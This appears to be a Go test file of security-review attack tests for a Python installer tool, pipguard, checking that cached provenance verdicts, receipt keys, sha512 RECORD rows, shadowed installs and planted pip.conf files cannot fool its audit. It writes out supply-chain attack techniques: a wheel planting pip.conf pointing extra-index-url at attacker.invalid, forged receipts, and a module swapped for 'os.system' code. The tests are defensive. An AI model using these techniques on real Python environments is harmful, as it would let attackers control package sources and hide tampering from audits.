package installer

// Attacks on index receipts and pipguard audit's index rules (review 2 of
// issue 19). Each test asserts what should hold; while the weakness it
// names is there, it fails.

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"errors"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pipguard/pipguard/installer/attest"
	"github.com/pipguard/pipguard/installer/cache"
	"github.com/pipguard/pipguard/installer/envaudit"
	"github.com/pipguard/pipguard/internal/pkgtest"
	"github.com/pipguard/pipguard/internal/sigstoretest"
	"github.com/pipguard/pipguard/pep610"
	"github.com/pipguard/pipguard/policy"
)

// A PEP 740 verdict reached against trusted roots only
// $PIPGUARD_TRUSTED_ROOT named (an attacker's Sigstore, set for a later CI
// step through $GITHUB_ENV) is cached under a key that does not name the
// roots (file name, sha256, expected publisher). A later run that trusts
// Sigstore's real roots (TUF) takes the cached verdict: the install that
// should be refused (the provenance does not verify under the real roots)
// succeeds, its receipt says verified with no trusted_roots, and audit
// reports no trusted-root-from-env: the warning is laundered away and the
// forged identity is "verified".
func TestAttackIndexProvenanceCacheLaundersEnvTrustedRoot(t *testing.T) {
	w := newIndexWorld(t)
	c, err := cache.Open(t.TempDir(), testCacheKey)
	if err != nil {
		t.Fatal(err)
	}
	w.cfg.Cache = c

	// The attacker's own "public-good" Sigstore signs plain's bytes as
	// acme/plain's release workflow: a forgery under the real roots.
	evil, err := sigstoretest.NewPublicGood()
	if err != nil {
		t.Fatal(err)
	}
	p := pkgtest.Project{Name: "plain", Version: "1.0"}
	data := p.Wheel()
	f, err := pkgtest.Signed(evil, sigstoretest.GitHubActions("acme/plain", ".github/workflows/release.yml", "refs/tags/v1.0", strings.Repeat("a", 40)),
		sigstoretest.GitHubPublisher("acme/plain", "release.yml"), "plain", "1.0", p.WheelName(), data)
	if err != nil {
		t.Fatal(err)
	}
	w.ix.Put(f)
	rootJSON, err := evil.TrustedRootJSON()
	if err != nil {
		t.Fatal(err)
	}
	rootFile := filepath.Join(t.TempDir(), "trusted_root.json")
	if err := os.WriteFile(rootFile, rootJSON, 0o644); err != nil {
		t.Fatal(err)
	}
	envTrust, err := attest.TrustFromFiles(rootFile)
	if err != nil {
		t.Fatal(err)
	}
	envTrust.FromEnvironment() // as cmd/pipguard marks $PIPGUARD_TRUSTED_ROOT's files

	pol := mustPolicy(t, "[[index]]\nmatch = \"plain\"\npublisher = { kind = \"GitHub\", repository = \"acme/plain\", workflow = \"release.yml\" }")
	args := []string{"--index-url", w.ix.SimpleURL()}
	real := w.trust
	install := func(trust *attest.Trust, withCache bool) error {
		t.Helper()
		w.trust = trust
		defer func() { w.trust, w.cfg.Cache = real, c }()
		if !withCache {
			w.cfg.Cache = nil
		}
		_, err := w.install(t, InstallOptions{Requirements: []string{"plain==1.0"}, PipArgs: args, Rules: pol})
		return err
	}
	audit := func() *envaudit.Report {
		t.Helper()
		rep, err := envaudit.Audit([]string{w.site}, envaudit.Options{GitHubHost: w.cfg.tokenHost(), Index: indexPolicy(pol)})
		if err != nil {
			t.Fatal(err)
		}
		return rep
	}

	// Control: under the real roots, and no cache, the forgery is refused.
	var pe *ProvenanceError
	if err := install(real, false); !errors.As(err, &pe) {
		t.Fatalf("the forged provenance under the real roots: %v, want a ProvenanceError\n%s", err, w.out.String())
	}
	// The run whose environment names the attacker's root: installed, and
	// audit says so (trusted-root-from-env).
	if err := install(envTrust, true); err != nil {
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	if got := strings.Join(findings(audit())["plain"], ","); got != "trusted-root-from-env:warning" {
		t.Fatalf("after the $PIPGUARD_TRUSTED_ROOT run: %q", got)
	}
	// pip removes it (or: a fresh container sharing the cache), and a
	// clean run, with the real roots, installs the same bytes again.
	if out, err := exec.Command(w.python, "-m", "pip", "uninstall", "-y", "plain").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	err = install(real, true)
	if err == nil {
		r := receiptOf(t, w, "plain")
		rep := audit()
		t.Errorf("a verdict reached against $PIPGUARD_TRUSTED_ROOT's roots was reused by a run trusting the real roots: installed (cached: %v, trusted_roots: %v), audit findings %v, verified %v",
			r.Provenance.Cached, r.TrustedRoots, findings(rep)["plain"], pkgOf(rep, "plain").Verified)
	}
}

// A wheel may write a .pipguard directory anywhere but PREFIX/.pipguard:
// the plan refuses only that one path, while pipguard audit takes the
// receipt key from the nearest of four parents of each directory on
// sys.path (pep610.FindReceiptKey). A .pth file with a plain directory
// line (no finding: only "import" lines are) puts a directory of the
// wheel's on sys.path; a receipt key the wheel ships beside it
// (site-packages/.pipguard/receipt.key) is then the key audit
// authenticates that directory's receipts with. Under umask 077 (pip
// writes 0600 files) the wheel's key is used: a whole fake distribution
// with a receipt the wheel MACed itself is "verified", with the publisher
// it chose. Under the usual umask 022 the key file is 0644 and every
// pipguard audit of the environment fails with an error: a wheel turns
// the audit off.
func TestAttackIndexWheelPlantsReceiptKeyAuditUses(t *testing.T) {
	w := newIndexWorld(t)
	// The fake distribution: a directory, a METADATA, a receipt MACed with
	// the key the wheel ships, and a RECORD that lists the receipt as
	// pipguard does. WriteReceipt builds it exactly.
	key := []byte("the-wheel-ships-this-receipt-key-0123456789")
	stage := t.TempDir()
	fakeDir := filepath.Join(stage, "evil_site", "trusted-9.9.dist-info")
	if err := os.MkdirAll(filepath.Join(stage, "evil_site", "trusted"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(fakeDir, 0o755); err != nil {
		t.Fatal(err)
	}
	mod := "print('not what pipguard verified')\n"
	files := map[string]string{
		"evil_site/trusted/__init__.py":             mod,
		"evil_site/trusted-9.9.dist-info/METADATA":  "Metadata-Version: 2.1\nName: trusted\nVersion: 9.9\n",
		"evil_site/trusted-9.9.dist-info/INSTALLER": "pip\n",
	}
	var record strings.Builder
	for _, n := range []string{"evil_site/trusted/__init__.py", "evil_site/trusted-9.9.dist-info/METADATA", "evil_site/trusted-9.9.dist-info/INSTALLER"} {
		if err := os.WriteFile(filepath.Join(stage, n), []byte(files[n]), 0o644); err != nil {
			t.Fatal(err)
		}
		record.WriteString(strings.TrimPrefix(n, "evil_site/") + ",sha256=" + b64sum256([]byte(files[n])) + "," + itoa(len(files[n])) + "\n")
	}
	record.WriteString("trusted-9.9.dist-info/RECORD,,\n")
	if err := os.WriteFile(filepath.Join(fakeDir, "RECORD"), []byte(record.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	li := int64(1)
	fake := pep610.Dist{Name: "trusted", Version: "9.9", Dir: fakeDir}
	if err := fake.WriteReceipt(pep610.Receipt{Requirement: "trusted==9.9", Name: "trusted", Version: "9.9", From: pep610.FromIndex,
		SHA256: strings.Repeat("ab", 32), WheelSHA256: strings.Repeat("ab", 32), File: "trusted-9.9-py3-none-any.whl", Index: "https://pypi.org/simple/",
		Provenance: &pep610.IndexProvenance{State: pep610.ProvenanceVerified, LogIndex: &li,
			Publisher: &pep610.Publisher{Kind: "GitHub", Repository: "pypa/trusted", Workflow: "release.yml"}},
		PolicySHA256: strings.Repeat("0", 64), Pipguard: "v1.0.0", InstalledAt: "2026-01-01T00:00:00Z"}, key); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"RECORD", pep610.ReceiptFile} {
		b, err := os.ReadFile(filepath.Join(fakeDir, n))
		if err != nil {
			t.Fatal(err)
		}
		files["evil_site/trusted-9.9.dist-info/"+n] = string(b)
	}
	files["carrier.pth"] = "evil_site\n"
	files[".pipguard/receipt.key"] = string(key)
	cp := pkgtest.Project{Name: "carrier", Version: "1.0", Files: files}
	data := cp.Wheel()
	sf, err := pkgtest.Signed(w.pg, sigstoretest.GitHubActions("acme/carrier", ".github/workflows/release.yml", "refs/tags/v1.0", strings.Repeat("a", 40)),
		sigstoretest.GitHubPublisher("acme/carrier", "release.yml"), "carrier", "1.0", cp.WheelName(), data)
	if err != nil {
		t.Fatal(err)
	}
	w.ix.Put(sf)
	w.put(t, "plain", "acme/plain", nil)
	args := []string{"--index-url", w.ix.SimpleURL()}

	// First, the usual umask: pip writes the key 0644.
	if _, err := w.install(t, InstallOptions{Requirements: []string{"plain==1.0", "carrier==1.0"}, PipArgs: args}); err != nil {
		if strings.Contains(err.Error(), ".pipguard") {
			return // the plan refused the wheel's .pipguard directory: the attack is closed
		}
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	t.Errorf("pipguard installed a wheel that writes %s", filepath.Join(w.site, ".pipguard", "receipt.key"))
	o := envaudit.Options{GitHubHost: w.cfg.tokenHost(), Index: indexPolicy(policy.Default())}
	if _, err := envaudit.Audit([]string{w.site}, o); err != nil {
		t.Errorf("a wheel's 0644 .pipguard/receipt.key makes every audit of the environment fail: %v", err)
	}
	// Then as pip writes it under umask 077.
	if err := os.Chmod(filepath.Join(w.site, ".pipguard", "receipt.key"), 0o600); err != nil {
		t.Fatal(err)
	}
	rep, err := envaudit.Audit([]string{w.site}, o)
	if err != nil {
		t.Fatal(err)
	}
	if pk := pkgOf(rep, "trusted"); pk.Verified {
		t.Errorf("a distribution pipguard never installed, with a receipt the wheel MACed with its own key, is verified: %+v (findings %v)", pk, findings(rep)["trusted"])
	}
}

func b64sum256(b []byte) string {
	sum := sha256.Sum256(b)
	return base64.RawURLEncoding.EncodeToString(sum[:])
}

func itoa(n int) string { return strconv.Itoa(n) }

// sha512Wheel is name 1.0's wheel with a RECORD that hashes every member
// with sha512, as the wheel spec allows and pipguard's plan accepts
// (sha256, sha384, sha512).
func sha512Wheel(name string) []byte {
	di := name + "-1.0.dist-info/"
	files := map[string]string{
		name + "/__init__.py": "VERSION = '1.0'\n",
		di + "METADATA":       "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\n",
		di + "WHEEL":          "Wheel-Version: 1.0\nGenerator: review2\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
	}
	names := []string{name + "/__init__.py", di + "METADATA", di + "WHEEL"}
	var rec strings.Builder
	for _, n := range names {
		sum := sha512.Sum512([]byte(files[n]))
		rec.WriteString(n + ",sha512=" + base64.RawURLEncoding.EncodeToString(sum[:]) + "," + strconv.Itoa(len(files[n])) + "\n")
	}
	rec.WriteString(di + "RECORD,,\n")
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range append(names, di+"RECORD") {
		body := files[n]
		if n == di+"RECORD" {
			body = rec.String()
		}
		fw, _ := zw.CreateHeader(&zip.FileHeader{Name: n, Method: zip.Deflate, Modified: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)})
		fw.Write([]byte(body))
	}
	zw.Close()
	return buf.Bytes()
}

// pip keeps a wheel's own RECORD hashes for the files it does not change
// (get_csv_rows_for_installed), so a wheel whose RECORD uses sha512 is
// installed with sha512 rows; pep610.CheckRecord checks sha256 rows only
// ("alg != sha256: continue"). After pipguard installs such a wheel with
// verified provenance, its module can be replaced and pipguard audit says
// nothing: no files-changed, the receipt (bound to the unchanged RECORD)
// still authenticates, and the distribution counts as verified.
func TestAttackIndexSHA512RecordHidesChangedFiles(t *testing.T) {
	w := newIndexWorld(t)
	data := sha512Wheel("strong")
	filename := "strong-1.0-py3-none-any.whl"
	f, err := pkgtest.Signed(w.pg, sigstoretest.GitHubActions("acme/strong", ".github/workflows/release.yml", "refs/tags/v1.0", strings.Repeat("a", 40)),
		sigstoretest.GitHubPublisher("acme/strong", "release.yml"), "strong", "1.0", filename, data)
	if err != nil {
		t.Fatal(err)
	}
	w.ix.Put(f)
	if _, err := w.install(t, InstallOptions{Requirements: []string{"strong==1.0"}, PipArgs: []string{"--index-url", w.ix.SimpleURL()}}); err != nil {
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	ds, err := pep610.Find(w.site, "strong")
	if err != nil || len(ds) != 1 {
		t.Fatalf("%v %v", ds, err)
	}
	rec, _ := os.ReadFile(filepath.Join(ds[0].Dir, "RECORD"))
	if !strings.Contains(string(rec), "strong/__init__.py,sha512=") {
		t.Fatalf("pip rewrote the sha512 rows (the attack needs them kept):\n%s", rec)
	}
	audit := func() *envaudit.Report {
		rep, err := envaudit.Audit([]string{w.site}, envaudit.Options{GitHubHost: w.cfg.tokenHost(), Index: indexPolicy(policy.Default())})
		if err != nil {
			t.Fatal(err)
		}
		return rep
	}
	if rep := audit(); !pkgOf(rep, "strong").Verified || len(findings(rep)["strong"]) > 0 {
		t.Fatalf("before: %+v %v", pkgOf(rep, "strong"), findings(rep)["strong"])
	}
	if err := os.WriteFile(filepath.Join(w.site, "strong", "__init__.py"), []byte("import os; os.system('id')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// (Its .pyc keeps pip's sha256 row: Python rewriting it at the next
	// import would show, but not under PYTHONDONTWRITEBYTECODE=1, a
	// read-only __pycache__, or for a file with no .pyc at all: an
	// extension module, a data file, a script.)
	rep := audit()
	if got := strings.Join(findings(rep)["strong"], ","); !strings.Contains(got, "files-changed") || pkgOf(rep, "strong").Verified {
		t.Errorf("strong/__init__.py replaced after install: audit findings %q, verified %v", got, pkgOf(rep, "strong").Verified)
	}
}

// Two installations of one project on sys.path: pipguard's (verified, with
// its receipt) and, before it on sys.path, one plain pip put there
// (pip install --user over a system Python, --target into a directory on
// sys.path): Python imports the first, pipguard audit counts the project
// verified, and under the default policy says nothing about the copy that
// runs (an index install with no receipt is a finding only where the
// policy requires provenance; only --lock notices a second installation).
func TestAttackIndexShadowedVerifiedInstallStillVouches(t *testing.T) {
	w := newIndexWorld(t)
	w.put(t, "plain", "acme/plain", nil)
	if _, err := w.install(t, InstallOptions{Requirements: []string{"plain==1.0"}, PipArgs: []string{"--index-url", w.ix.SimpleURL()}}); err != nil {
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	links := t.TempDir()
	evil := pkgtest.Project{Name: "plain", Version: "1.0", Files: map[string]string{"plain/__init__.py": "VERSION = 'evil'\n"}}
	if err := os.WriteFile(filepath.Join(links, evil.WheelName()), evil.Wheel(), 0o644); err != nil {
		t.Fatal(err)
	}
	user := filepath.Join(t.TempDir(), "user-site")
	if out, err := exec.Command(w.python, "-m", "pip", "install", "--isolated", "--no-deps", "--no-index", "--find-links", links, "--target", user, "plain==1.0").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	// user is first on sys.path, as the user site is before the system's.
	rep, err := envaudit.Audit([]string{user, w.site}, envaudit.Options{GitHubHost: w.cfg.tokenHost(), Index: indexPolicy(policy.Default())})
	if err != nil {
		t.Fatal(err)
	}
	var shown []string
	for _, p := range rep.Packages {
		if p.Name == "plain" {
			shown = append(shown, p.Path+" verified="+strconv.FormatBool(p.Verified))
		}
	}
	if len(findings(rep)["plain"]) == 0 {
		t.Errorf("the plain Python imports is not the one pipguard verified, and audit reports nothing (%d verified): %v", rep.Verified, shown)
	}
}

// The policy loader refuses a pattern with a "*" between two "-" (it
// checks the match with every "*" removed: "acme--plugin" is not
// normalised), though the pattern matches acme-x-plugin and pipguard check
// would call it matchable: a usable [[index]] table is an error for every
// command.
func TestAttackIndexPatternWithInnerStarIsRefused(t *testing.T) {
	for _, m := range []string{"acme-*-plugin", "*-*-tools"} {
		pol, err := policy.Parse("pipguard.toml", []byte("[[index]]\nmatch = \""+m+"\"\nrequire = true\n"))
		if err != nil {
			t.Errorf("match = %q refused: %v", m, err)
			continue
		}
		if !pol.ForProject("acme-x-plugin").Require && m == "acme-*-plugin" {
			t.Errorf("%q does not select acme-x-plugin", m)
		}
	}
}

// A wheel may write PREFIX/pip.conf (its .data/data/pip.conf): pip reads
// it as the environment's own ("site") configuration on every later run,
// pipguard's resolution included. With the policy's indexes unset (the
// default), the planted extra-index-url is then one of the indexes pip
// resolves from and pipguard asks for provenance (a receipt can name it,
// and audit --online asks it again): a wheel chooses the environment's
// package sources for good. The plan should refuse it, as it refuses
// PREFIX/.pipguard.
func TestAttackIndexWheelPlantsPipConf(t *testing.T) {
	w := newIndexWorld(t)
	cp := pkgtest.Project{Name: "confplant", Version: "1.0", Files: map[string]string{
		"confplant-1.0.data/data/pip.conf": "[global]\nextra-index-url = https://attacker.invalid/simple/\n",
	}}
	data := cp.Wheel()
	sf, err := pkgtest.Signed(w.pg, sigstoretest.GitHubActions("acme/confplant", ".github/workflows/release.yml", "refs/tags/v1.0", strings.Repeat("a", 40)),
		sigstoretest.GitHubPublisher("acme/confplant", "release.yml"), "confplant", "1.0", cp.WheelName(), data)
	if err != nil {
		t.Fatal(err)
	}
	w.ix.Put(sf)
	_, err = w.install(t, InstallOptions{Requirements: []string{"confplant==1.0"}, PipArgs: []string{"--index-url", w.ix.SimpleURL()}})
	if err != nil {
		return // refused
	}
	conf := filepath.Join(prefixOf(w.python), "pip.conf")
	if _, serr := os.Stat(conf); serr == nil {
		out, _ := exec.Command(w.python, "-m", "pip", "config", "list").CombinedOutput()
		t.Errorf("pipguard installed a wheel that writes the environment's pip configuration %s; pip config list now says:\n%s", conf, out)
	}
}

// The index the receipt names no longer has the project at all (a 404
// for its page: PyPI's takedown of a malicious project looks like this):
// README says "gone" is index-provenance-gone, but IndexRecheck returns the
// page's 404 as an error, so pipguard audit --online fails as a whole
// (every other finding with it) instead of naming the distribution.
func TestAttackIndexProjectTakenDownFailsOnlineAudit(t *testing.T) {
	w := newIndexWorld(t)
	w.put(t, "plain", "acme/plain", nil)
	if _, err := w.install(t, InstallOptions{Requirements: []string{"plain==1.0"}, PipArgs: []string{"--index-url", w.ix.SimpleURL()}}); err != nil {
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	w.ix.Serve = func(rw http.ResponseWriter, r *http.Request, kind, name string) bool {
		if kind == "page" && name == "plain" {
			http.NotFound(rw, r)
			return true
		}
		return false
	}
	pol := policy.Default()
	ix := NewIndexRecheck(w.cfg, pol, w.trust)
	o := envaudit.Options{GitHubHost: w.cfg.tokenHost(), Index: indexPolicy(pol), Online: func(r *pep610.Receipt) ([][2]string, error) {
		if r.From != pep610.FromIndex {
			return nil, nil
		}
		ds, err := ix.Recheck(context.Background(), r)
		var out [][2]string
		for _, d := range ds {
			out = append(out, [2]string{d.Rule, d.Message})
		}
		return out, err
	}}
	rep, err := envaudit.Audit([]string{w.site}, o)
	if err != nil {
		t.Fatalf("the project's page is gone from its index, and audit --online fails instead of reporting it: %v", err)
	}
	if got := strings.Join(findings(rep)["plain"], ","); got != "index-provenance-gone:error" {
		t.Errorf("plain: %q", got)
	}
}

// The cached PEP 740 verdict carries the index of the run that reached it
// (IndexAttestation.Index), and a cache hit keeps it: a run that installs
// the same bytes from another index writes a receipt naming the first
// index. Whoever served the first run (an index set for one CI job through
// $PIP_INDEX_URL, a mirror that copied PyPI's file and provenance) is then
// the host every later audit --online asks about the file: it can keep
// the provenance "there" after the real index takes the project down, and
// the index the file really came from is never asked.
func TestAttackIndexCachedVerdictKeepsFirstIndex(t *testing.T) {
	w := newIndexWorld(t)
	c, err := cache.Open(t.TempDir(), testCacheKey)
	if err != nil {
		t.Fatal(err)
	}
	w.cfg.Cache = c
	mirror := pkgtest.NewProvenanceIndex(t)
	p := pkgtest.Project{Name: "plain", Version: "1.0"}
	f, err := pkgtest.Signed(w.pg, sigstoretest.GitHubActions("acme/plain", ".github/workflows/release.yml", "refs/tags/v1.0", strings.Repeat("a", 40)),
		sigstoretest.GitHubPublisher("acme/plain", "release.yml"), "plain", "1.0", p.WheelName(), p.Wheel())
	if err != nil {
		t.Fatal(err)
	}
	w.ix.Put(f)
	mirror.Put(f)
	if _, err := w.install(t, InstallOptions{Requirements: []string{"plain==1.0"}, PipArgs: []string{"--index-url", mirror.SimpleURL()}}); err != nil {
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	if out, err := exec.Command(w.python, "-m", "pip", "uninstall", "-y", "plain").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if _, err := w.install(t, InstallOptions{Requirements: []string{"plain==1.0"}, PipArgs: []string{"--index-url", w.ix.SimpleURL()}}); err != nil {
		t.Fatalf("%v\n%s", err, w.out.String())
	}
	r := receiptOf(t, w, "plain")
	if r.Index != w.ix.SimpleURL() {
		t.Errorf("installed from %s, but the receipt names %s (the cached verdict's index; url %s, cached %v): audit --online asks that host", w.ix.SimpleURL(), r.Index, r.URL, r.Provenance.Cached)
	}
}
